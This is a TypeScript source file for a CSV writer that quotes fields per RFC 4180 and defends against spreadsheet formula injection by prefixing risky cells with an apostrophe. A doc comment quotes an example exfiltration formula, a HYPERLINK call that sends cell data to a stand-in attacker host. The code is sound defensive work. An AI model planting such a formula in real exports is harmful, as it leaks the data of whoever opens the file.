/** A cell as Reprise writes it: text, a number, or empty. */
export type CsvCell = string | number | null;

export interface CsvWriteOptions {
  /**
   * Leave text exactly as stored, for programs that read the file. Without it, text a
   * spreadsheet would run as a formula is neutralised (see `neutralise`).
   */
  raw?: boolean;
}

/**
 * Excel, LibreOffice and Google Sheets run a cell that starts with = + - or @ as a formula
 * (and tab or CR can hide such a start), so `=HYPERLINK("http://evil.example/?d="&B2)` in a
 * comment would send the sheet's data away when opened. As OWASP recommends, such text gets a
 * leading ' which the spreadsheet shows as plain text. Numbers are written as numbers.
 */
export function neutralise(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

function field(value: CsvCell, raw: boolean): string {
  if (value === null) return '';
  const text = typeof value === 'number' ? String(value) : raw ? value : neutralise(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * Every CSV Reprise writes goes through here. RFC 4180: a header row, CRLF line ends, and
 * fields with a comma, quote or line break quoted, with "" for ".
 */
export function writeCsv(header: readonly string[], rows: readonly (readonly CsvCell[])[], options: CsvWriteOptions = {}): string {
  const raw = options.raw ?? false;
  const lines = [header, ...rows].map((cells) => cells.map((cell) => field(cell, raw)).join(','));
  return `${lines.join('\r\n')}\r\n`;
}
